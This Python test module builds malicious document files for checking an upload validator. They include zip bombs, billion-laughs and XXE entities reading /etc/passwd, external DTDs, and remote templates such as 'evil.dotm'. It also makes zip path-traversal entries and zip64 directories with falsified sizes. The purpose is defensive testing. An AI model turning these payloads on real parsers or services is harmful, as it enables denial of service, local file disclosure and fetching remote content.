"""Makes the files that an annex must never be: bombs, entities, references to the outside, damaged and locked ones."""

from __future__ import annotations

import struct
import zipfile
import zlib
from pathlib import Path

import xlsxwriter
import xlwt

from tests.files.annexes import Annex, write

SMALL = Annex(["序号", "事项名称", "事项类型"], [["1", "船舶登记", "行政确认"]])
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
LAUGHS = (
    '<!DOCTYPE w [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1 if n else str()};" * 10}">' for n in range(9))
    + "]>"
)


def changed(path: Path, target: Path, **parts) -> Path:
    """A copy of a package with parts replaced or added: name with __ for / and _dot_ for ., content or function."""
    wanted = {name.replace("__", "/").replace("_dot_", "."): new for name, new in parts.items()}
    with zipfile.ZipFile(path) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            content = old.read(info)
            change = wanted.pop(info.filename, None)
            if callable(change):
                content = change(content)
            elif change is not None:
                content = change
            new.writestr(info.filename, content)
        for name, content in wanted.items():
            new.writestr(name, content)
    return target


def _word(folder: Path) -> Path:
    return write(SMALL, folder, "docx", "原件")


def _sheet(folder: Path) -> Path:
    return write(SMALL, folder, "xlsx", "原件")


def after_declaration(extra: str):
    def change(content: bytes) -> bytes:
        start = content.index(b"?>") + 2
        return content[:start] + extra.encode() + content[start:]

    return change


def zip_bomb_word(folder):
    filler = b"<w:p/>" * (300 * 1024 * 1024 // 6)
    return changed(_word(folder), folder / "bomb.docx", word__document_dot_xml=filler)


def zip_bomb_sheet(folder):
    filler = b"<row/>" * (300 * 1024 * 1024 // 6)
    return changed(_sheet(folder), folder / "bomb.xlsx", xl__worksheets__sheet1_dot_xml=filler)


def lying_bomb(folder):
    """A part whose directory entry says 1 kB and that unpacks to 200 MB."""
    path = folder / "lying.xlsx"
    source = _sheet(folder)
    big = b"<x>" + b"a" * (200 * 1024 * 1024) + b"</x>"
    changed(source, path, xl__sharedStrings_dot_xml=big)
    data = bytearray(path.read_bytes())
    true_size = struct.pack("<I", len(big))
    small = struct.pack("<I", 1024)
    crc = struct.pack("<I", zlib.crc32(big))
    for at in _places(data, crc):
        if data[at + 8 : at + 12] == true_size:
            data[at : at + 4] = struct.pack("<I", zlib.crc32(big[:1024]))
            data[at + 8 : at + 12] = small
    path.write_bytes(bytes(data))
    return path


def _places(data, needle):
    at = data.find(needle)
    while at >= 0:
        yield at
        at = data.find(needle, at + 1)


def many_entries(folder):
    path = folder / "many.docx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        for number in range(10_000):
            archive.writestr(f"word/{number}.xml", "<a/>")
    return path


def laughs_word(folder):
    return changed(_word(folder), folder / "laughs.docx", word__document_dot_xml=after_declaration(LAUGHS))


def laughs_sheet(folder):
    return changed(
        _sheet(folder), folder / "laughs.xlsx", xl__sharedStrings_dot_xml=after_declaration(LAUGHS)
    )


def dtd_sheet(folder):
    extra = '<!DOCTYPE workbook SYSTEM "http://192.0.2.1/x.dtd">'
    return changed(_sheet(folder), folder / "dtd.xlsx", xl__workbook_dot_xml=after_declaration(extra))


def entity_in_properties(folder):
    extra = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    return changed(_word(folder), folder / "props.docx", docProps__core_dot_xml=after_declaration(extra))


def dtd_in_utf16(folder):
    def change(content):
        return after_declaration(LAUGHS)(content).decode().replace("UTF-8", "UTF-16").encode("utf-16")

    return changed(_word(folder), folder / "utf16.docx", word__document_dot_xml=change)


def external_template(folder):
    relation = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{RELATIONS}/attachedTemplate" '
        'Target="http://192.0.2.1/evil.dotm" TargetMode="External"/></Relationships>'
    )
    return changed(
        _word(folder), folder / "template.docx", word___rels__settings_dot_xml_dot_rels=relation.encode()
    )


def external_workbook(folder):
    relation = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship TargetMode = "External" Id="rId1" Type="{RELATIONS}/externalLinkPath" '
        'Target="file://192.0.2.1/share/other.xlsx"/></Relationships>'
    )
    return changed(
        _sheet(folder),
        folder / "link.xlsx",
        xl__externalLinks___rels__externalLink1_dot_xml_dot_rels=relation.encode(),
    )


def far_cell_xlsx(folder):
    path = folder / "far.xlsx"
    with xlsxwriter.Workbook(str(path)) as book:
        sheet = book.add_worksheet()
        sheet.write(0, 0, "序号")
        sheet.write(1_048_575, 16_383, "远")
    return path


def far_cell_single_quotes(folder):
    def change(content):
        return content.replace(b'"XFD1048576"', b"'XFD1048576'")

    return changed(far_cell_xlsx(folder), folder / "quotes.xlsx", xl__worksheets__sheet1_dot_xml=change)


def wide_and_long(folder):
    path = folder / "wide.xlsx"
    with xlsxwriter.Workbook(str(path)) as book:
        sheet = book.add_worksheet()
        sheet.write(0, 0, "序号")
        sheet.write(90_000, 700, "远")
    return path


def far_cell_xls(folder):
    path = folder / "far.xls"
    book = xlwt.Workbook()
    sheet = book.add_sheet("a")
    sheet.write(0, 0, "序号")
    sheet.write(65_535, 255, "远")
    book.save(str(path))
    return path


def deep_word(folder):
    deep = b"<w:sdt><w:sdtContent>" * 50_000
    start = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
    return changed(_word(folder), folder / "deep.docx", word__document_dot_xml=start + deep)


def deep_sheet(folder):
    deep = b"<a>" * 1_000_000
    return changed(_sheet(folder), folder / "deep.xlsx", xl__sharedStrings_dot_xml=deep)


def huge_strings(folder):
    words = b"".join(
        b"<si><t>%08d%s</t></si>" % (n, zlib.crc32(b"%d" % n).to_bytes(4).hex().encode())
        for n in range(1_500_000)
    )
    return changed(
        _sheet(folder),
        folder / "strings.xlsx",
        xl__sharedStrings_dot_xml=b'<sst xmlns="%s">' % MAIN.encode() + words + b"</sst>",
    )


def merges_without_end(folder):
    merges = b"".join(b'<mergeCell ref="%c1:%c60000"/>' % (65 + n % 26, 65 + n % 26) for n in range(20_000))

    def change(content):
        block = b'<mergeCells count="20000">' + merges + b"</mergeCells>"
        return content.replace(
            b"</sheetData>", b'<row r="60000"><c r="A60000"><v>1</v></c></row></sheetData>' + block
        )

    return changed(_sheet(folder), folder / "merges.xlsx", xl__worksheets__sheet1_dot_xml=change)


WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
TABLE = b"<w:tbl><w:tr><w:tc>"
TABLE_END = b"</w:tc></w:tr></w:tbl>"


def with_body(folder, body, **parts):
    """A Word file with this body."""
    whole = f'<w:document xmlns:w="{WORD}"><w:body>'.encode() + body + b"</w:body></w:document>"
    return changed(_word(folder), folder / "body.docx", word__document_dot_xml=whole, **parts)


def with_rows(folder, rows, after=b""):
    """A workbook whose sheet holds these rows, and what follows them."""
    whole = (
        f'<worksheet xmlns="{MAIN}"><sheetData>'.encode() + rows + b"</sheetData>" + after + b"</worksheet>"
    )
    return changed(_sheet(folder), folder / "rows.xlsx", xl__worksheets__sheet1_dot_xml=whole)


def million_merges(folder):
    merges = b"".join(b'<mergeCell ref="A%d:B%d"/>' % (n, n) for n in range(1, 1_000_001))
    return with_rows(
        folder, b'<row r="1"><c r="A1"><v>1</v></c></row>', b"<mergeCells>" + merges + b"</mergeCells>"
    )


def far_row_number(folder):
    return with_rows(folder, b'<row r="4000000000"><c r="A4000000000"><v>1</v></c></row>')


def declared_dimension(folder):
    def change(content):
        return content.replace(b'<dimension ref="A1:C4"/>', b'<dimension ref="A1:XFD1048576"/>')

    return changed(_sheet(folder), folder / "dimension.xlsx", xl__worksheets__sheet1_dot_xml=change)


def _ods(folder, rows):
    spaces = "".join(
        f' xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
        for name in ("office", "table", "text")
    )
    path = folder / "repeated.ods"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", zipfile.ZIP_STORED)
        archive.writestr("META-INF/manifest.xml", "<manifest/>")
        archive.writestr(
            "content.xml",
            f"<office:document-content{spaces}><office:body><office:spreadsheet>"
            f'<table:table table:name="a">{rows}</table:table>'
            "</office:spreadsheet></office:body></office:document-content>",
        )
    return path


def repeated_rows_ods(folder):
    cell = '<table:table-cell office:value-type="string"><text:p>序号</text:p></table:table-cell>'
    return _ods(folder, f'<table:table-row table:number-rows-repeated="1000000000">{cell}</table:table-row>')


def repeated_cells_ods(folder):
    """What every spreadsheet program writes: the empty rest of the sheet, repeated to its last row and column."""
    rest = '<table:table-cell table:number-columns-repeated="16384"/>'
    return _ods(
        folder,
        '<table:table-row><table:table-cell office:value-type="string"><text:p>序号</text:p></table:table-cell>'
        f'{rest}</table:table-row><table:table-row table:number-rows-repeated="1048575">{rest}</table:table-row>',
    )


def spans_without_end(folder):
    wide = b'<w:tc><w:tcPr><w:gridSpan w:val="999999"/></w:tcPr><w:p><w:r><w:t>x</w:t></w:r></w:p></w:tc>'
    return with_body(folder, b"<w:tbl><w:tr>" + wide + b"</w:tr></w:tbl>")


def tables_in_tables(folder):
    return with_body(folder, TABLE * 1000 + b"<w:p/>" + TABLE_END * 1000)


def many_tables_deep(folder):
    text = b"<w:p><w:r><w:t>a</w:t></w:r></w:p>" * 20_000
    return with_body(folder, TABLE * 50 + text + TABLE_END * 50)


def one_cell(folder):
    letters = b"".join(zlib.crc32(b"%d" % n).to_bytes(4).hex().encode() for n in range(2_500_000))
    return with_body(folder, TABLE + b"<w:p><w:r><w:t>" + letters + b"</w:t></w:r></w:p>" + TABLE_END)


def styles_in_a_circle(folder):
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="{one}"><w:basedOn w:val="{other}"/></w:style>'
        for one, other in ("AB", "BA")
    )
    return with_body(
        folder,
        b'<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr><w:r><w:t>x</w:t></w:r></w:p>',
        word__styles_dot_xml=f'<w:styles xmlns:w="{WORD}">{styles}</w:styles>'.encode(),
    )


def hidden_external(folder):
    relation = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r" Type="{RELATIONS}/image" Target="http://192.0.2.1/a" TargetMode="&#69;xternal"/>'
        "</Relationships>"
    )
    return changed(
        _word(folder), folder / "link.docx", word___rels__document_dot_xml_dot_rels=relation.encode()
    )


def entity_in_relations(folder):
    extra = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    return changed(_word(folder), folder / "relations.docx", _rels___dot_rels=after_declaration(extra))


def path_out_of_the_package(folder):
    path = _word(folder)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("../../evil.txt", "x")
    return path


def same_name_twice(folder):
    path = _word(folder)
    data = path.read_bytes()
    path.write_bytes(data.replace(b"docProps/core.xml", b"word/document.xml"))
    return path


def locked_parts(folder):
    path = _word(folder)
    data = bytearray(path.read_bytes())
    for at in _places(data, b"PK\x01\x02"):
        data[at + 8] |= 1
    path.write_bytes(bytes(data))
    return path


def lying_directory(folder):
    """A directory that refers to a larger one (zip64) of a million million entries."""
    path = _word(folder)
    data = path.read_bytes()
    at = data.rfind(b"PK\x05\x06")
    start = struct.unpack_from("<I", data, at + 16)[0]
    record = b"PK\x06\x06" + struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, 10**12, 10**12, 2**62, start)
    locator = b"PK\x06\x07" + struct.pack("<IQI", 0, at, 1)
    end = data[at : at + 8] + b"\xff" * 12 + data[at + 20 :]
    path.write_bytes(data[:at] + record + locator + end)
    return path


def endless_line(folder):
    path = folder / "line.csv"
    path.write_bytes(b"a," * 14_000_000)
    return path
